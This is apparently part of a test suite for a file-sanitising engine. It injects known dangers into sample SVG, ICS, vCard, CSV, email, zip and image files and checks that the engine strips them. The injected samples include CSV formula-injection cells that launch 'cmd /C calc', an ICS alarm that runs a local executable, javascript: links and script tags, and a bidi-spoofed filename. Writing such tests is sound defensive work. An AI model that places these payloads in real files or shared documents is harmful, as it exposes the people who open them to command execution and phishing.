web("svg", "foreign", "</svg>", '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://example.com/"/></foreignObject></svg>')
web("svg", "remote-image", "</svg>", '<image href="https://example.com/a.png" width="1" height="1"/></svg>')
web("svg", "remote-use", "</svg>", '<use href="https://example.com/a.svg#b"/></svg>')
web("svg", "style-import", "<rect ", '<style>@import "https://example.com/a.css";</style><rect ')
web("svg", "animated-link", "</svg>", '<a><set attributeName="href" to="javascript:alert(1)"/></a></svg>')
web("ics", "attach", "END:VEVENT", "ATTACH:https://example.com/a.exe\r\nEND:VEVENT")
web("ics", "alarm-program", "END:VEVENT", "BEGIN:VALARM\r\nACTION:PROCEDURE\r\nTRIGGER:-PT5M\r\nATTACH:file:///c:/a.exe\r\nEND:VALARM\r\nEND:VEVENT")
web("ics", "html-description", "END:VEVENT", "X-ALT-DESC;FMTTYPE=text/html:<script>x</script>\r\nEND:VEVENT")
web("ics", "conference", "END:VEVENT", "CONFERENCE;VALUE=URI:https://example.com/\r\nEND:VEVENT", equal=False)
web("vcf", "key", "END:VCARD", "KEY:https://example.com/\r\nEND:VCARD")
web("vcf", "sound", "END:VCARD", "SOUND;VALUE=uri:https://example.com/a.wav\r\nEND:VCARD")


def rows(name, cell):
    danger("csv", name, equal=False)(lambda _: samples.CSV.replace("鉛筆", cell).encode())


rows("command", "=cmd|' /C calc'!A0")
rows("plus", "+cmd|' /C calc'!A0")
rows("minus", "-cmd|' /C calc'!A0")
rows("at", "@SUM(1+1)*cmd|' /C calc'!A0")
rows("hyperlink", '"=HYPERLINK(""http://example.com/"",""a"")"')
rows("full-width", "＝WEBSERVICE(A1)")

danger("txt", "bidi", equal=False)(lambda data: data[:0] + "請求\u202egpj.exe書".encode("utf-8-sig"))
danger("txt", "escape", equal=False)(lambda data: data + b"\x1b]0;x\x07")
danger("xml", "instruction")(lambda data: data.replace("<申請>".encode(), '<?xml-stylesheet href="http://example.com/a.xsl"?><申請>'.encode()))
danger("eml", "html", equal=False)(lambda _: html_mail(b"<p>text</p><script>alert(1)</script><img src='https://example.com/t.gif'>"))
danger("eml", "program", equal=False)(lambda data: data.replace(b'filename*="utf-8', b'filename*="utf-8') if False else with_attachment(b"MZ" + bytes(100), "a.exe"))
danger("eml", "macro-document", equal=False)(lambda _: with_attachment(next(f for k, n, _, _, f in LIST if (k, n) == ("docx", "vba"))(samples.docx()), "a.docm"))
danger("eml", "external-body", equal=False)(lambda data: data.replace(b"Content-Type: image/png", b'Content-Type: message/external-body; access-type=URL; URL="http://example.com/"', 1))
danger("zip", "program", equal=False)(lambda data: repack(data, add={"a.exe": b"MZ" + bytes(100)}))
danger("zip", "macro-document", equal=False)(lambda data: repack(data, add={"a.docm": next(f for k, n, _, _, f in LIST if (k, n) == ("docx", "vba"))(samples.docx())}))
danger("zip", "nested-script", equal=False)(lambda data: repack(data, add={"b.zip": samples.archive({"a.js": b"alert(1)"})}))
danger("zip", "comment")(lambda data: repack(data, comment=b"payload"))
danger("png", "text")(lambda data: chunk(data, b"tEXt", b"Comment\0payload"))
danger("png", "after-end")(lambda data: data + b"PK\3\4payload")
danger("jpg", "exif")(lambda data: data[:2] + b"\xff\xe1\0\x16Exif\0\0MM\0*\0\0\0\x08\0\0\0\0\0\0" + data[2:])
danger("jpg", "photoshop")(lambda data: data[:2] + b"\xff\xed\0\x12Photoshop 3.0\0ab" + data[2:])
danger("jpg", "after-end")(lambda data: data + b"<?php payload ?>")
danger("gif", "comment")(lambda data: gif_block(data, b"\x21\xfe\x07payload\0"))
danger("gif", "after-end")(lambda data: data + b"payload")
danger("webp", "exif")(lambda data: webp_chunk(data, b"EXIF", b"payload."))
danger("bmp", "after-end")(lambda data: data + b"payload")
danger("tif", "xmp")(lambda _: tiff_with(700, b"<payload/>"))


def with_attachment(content, name):
    mail = samples.mail()
    old = base64.encodebytes(samples.picture()).replace(b"\n", b"\r\n").strip()
    del old
    import email
    import email.policy

    message = email.message_from_bytes(mail, policy=email.policy.SMTP)
    message.add_attachment(content, maintype="application", subtype="octet-stream", filename=name)
    message.set_boundary("=_part_of_a_sample")
    return message.as_bytes()


# ── check ────────────────────────────────────────────────────────────────────────────────────────────────────


def same_but_for_files(one, other):
    """Archives with equal members, whatever their order."""
    try:
        read = lambda data: sorted((i.filename, zipfile.ZipFile(io.BytesIO(data)).read(i)) for i in zipfile.ZipFile(io.BytesIO(data)).infolist())  # noqa: E731
        return read(one) == read(other)
    except zipfile.BadZipFile:
        return False


def check(engine, scratch, failures, corpus, full):
    from check import examine, pool

    import fidelity

    files = samples.all_of_them()
    folder = scratch / "in"
    folder.mkdir(parents=True, exist_ok=True)
    clean, dirty = {}, {}
    for kind in {kind for kind, *_ in LIST}:
        name = next(name for name in files if name.endswith("." + kind))
        clean[kind] = folder / f"{kind}-clean.{kind}"
        clean[kind].write_bytes(files[name])
    for kind, name, equal, ending, inject in LIST:
        path = folder / f"{kind}-{name}.{ending}"
        try:
            path.write_bytes(inject(clean[kind].read_bytes()))
        except Exception as error:  # noqa: BLE001
            failures.add(path.name, "injector", repr(error)[:120])
            continue
        dirty[str(path)] = (kind, equal)
    reports = engine.run([*map(str, clean.values()), *dirty], scratch / "out")
    with pool() as workers:
        seen = dict(zip([*dirty, *map(str, clean.values())], workers.map(examine, [*dirty, *map(str, clean.values())], chunksize=4)))
        made = {path: reports[path]["output"] for path in dirty if reports[path].get("output") and os.path.exists(reports[path]["output"])}
        left = dict(zip(made, workers.map(examine, made.values(), chunksize=4)))
    blind, equal_bytes, unequal, held = [], 0, [], []
    for path, (kind, equal) in dirty.items():
        name = os.path.basename(path)
        before = set(seen[path][0]) - set(seen[str(clean[kind])][0])
        if not before and not seen[path][3]:
            blind.append(name)
        if path not in made:
            held.append(f"{name} ({reports[path].get('reason')})")
            continue
        for code, where in left[path][0]:
            failures.add(name, "danger", f"{code}: {where}")
        for code, where in left[path][1]:
            failures.add(name, "broken", f"{code}: {where}")
        for text in left[path][2]:
            failures.add(name, "unknown", text)
        if not reports[path]["removed"] and not name.startswith(("zip-comment",)):
            failures.add(name, "report", "removed without being told")
        pure = reports[str(clean[kind])].get("output")
        if not equal or not pure or not os.path.exists(pure):
            continue
        one, other = pathlib.Path(pure).read_bytes(), pathlib.Path(made[path]).read_bytes()
        if one == other or same_but_for_files(one, other):
            equal_bytes += 1
        else:
            unequal.append((pure, made[path], name))
    for name in blind:
        failures.add(name, "blind", "no oracle sees the danger that was put in")
    compared = fidelity.compare_pairs([(one, other) for one, other, _ in unequal], scratch / "render") if unequal else {}
    for one, other, name in unequal:
        text, picture = compared.get((one, other), (None, None))
        if text is None or text < 1 or (picture is not None and picture < 0.999):
            failures.add(name, "differs", f"from the clean file's output: text {text}, picture {picture}")
    print(f"{len(dirty)} dangers in {len(clean)} families: {len(made)} delivered ({equal_bytes} with the clean file's bytes, {len(unequal)} compared by text and picture), {len(held)} held")
    if held:
        print("  held: " + " ".join(held))
